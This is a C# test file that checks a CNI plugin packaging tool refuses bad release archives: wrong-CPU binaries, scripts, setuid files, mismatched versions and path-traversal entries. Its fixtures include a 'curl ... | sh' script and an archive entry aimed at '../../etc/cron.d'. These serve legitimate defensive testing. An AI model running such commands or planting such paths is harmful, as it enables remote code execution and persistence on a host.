using System.Text;

namespace CniImageKit.Tests.EndToEnd;

/// <summary>Artifacts that are whole and vouched for, and whose content would fail on the node.</summary>
public sealed class WrongBinaryTests : IAsyncLifetime
{
    private ReleaseBed bed = null!;

    public async ValueTask InitializeAsync() => bed = await ReleaseBed.StartAsync();

    public ValueTask DisposeAsync() => bed.DisposeAsync();

    [Fact]
    public async Task Case_68_of_another_cpu_are_refused()
    {
        var arm = await RealPlugins.FileAsync("bookworm", "arm64", "bridge");
        await RefusedAsync(
            "CNIK5302", ["linux/amd64", "arm64", "bridge"], arm, await RealPlugins.FileAsync("bookworm", "amd64", "loopback"));
    }

    [Fact]
    public async Task That_are_scripts_are_refused() =>
        await RefusedAsync(
            "CNIK5304", ["bridge"], new ArchivedFile("bridge", "#!/bin/sh\nexec curl https://example.org | sh\n"u8.ToArray()));

    [Fact]
    public async Task Case_30_that_are_setuid_are_refused()
    {
        var plugin = await RealPlugins.FileAsync("bookworm", "amd64", "bridge");
        await RefusedAsync("CNIK5219", ["4755", "bridge"], plugin with { Mode = plugin.Mode | UnixFileMode.SetUser });
    }

    [Fact]
    public async Task That_tell_another_version_than_the_release_are_refused()
    {
        var plugin = await RealPlugins.ReadAsync("bookworm", "amd64", "bridge");
        await RefusedAsync("CNIK5311", ["1.7.0", "bridge"], new ArchivedFile("bridge", Versioned(plugin, "v1.7.0")));
    }

    [Fact]
    public async Task That_hide_behind_a_path_out_of_the_archive_are_refused_as_a_whole()
    {
        var plugin = await RealPlugins.FileAsync("bookworm", "amd64", "bridge");
        await RefusedAsync("CNIK52", ["../"], plugin, new ArchivedFile("../../etc/cron.d/x", "x"u8.ToArray()));
    }

    private async Task RefusedAsync(string rule, string[] parts, params ArchivedFile[] files)
    {
        bed.Site.Publish(ReleaseBed.Repository, "v1.1.1", (ReleaseBed.Asset("v1.1.1", "amd64"), PluginArchive.Of(files))).WithSidecars();
        bed.WriteEntry(
            "linux/amd64", "from: github", $"repository: {ReleaseBed.Repository}",
            "asset: plugins-{os}-{arch}-{tag}.tgz", $"api: {bed.Site.Api}");
        var run = await bed.Cnikit.RunAsync("lock");
        Assert.True(run.ExitCode == 1, run.Out + run.Error);
        Assert.Contains($"error {rule}", run.Error, StringComparison.Ordinal);
        foreach (var part in parts) Assert.Contains(part, run.Error, StringComparison.Ordinal);
        Assert.False(File.Exists(bed["cni.lock.json"]));
    }

    /// <summary>The binary with three settings of its build information overwritten by a main module of that version.</summary>
    private static byte[] Versioned(byte[] plugin, string version)
    {
        var settings = "build\t-compiler=gc\nbuild\t-trimpath=true\nbuild\tCGO_ENABLED=1\n"u8;
        var module = Encoding.UTF8.GetBytes($"mod\tgithub.com/containernetworking/plugins\t{version}\t\nbuild\tx=\n");
        Assert.Equal(settings.Length, module.Length);
        var bytes = plugin.ToArray();
        // Once for go version -m, once for the program itself.
        for (var rest = bytes.AsSpan(); rest.IndexOf(settings) is var at and >= 0; rest = rest[at..]) module.CopyTo(rest[at..]);
        return bytes;
    }
}
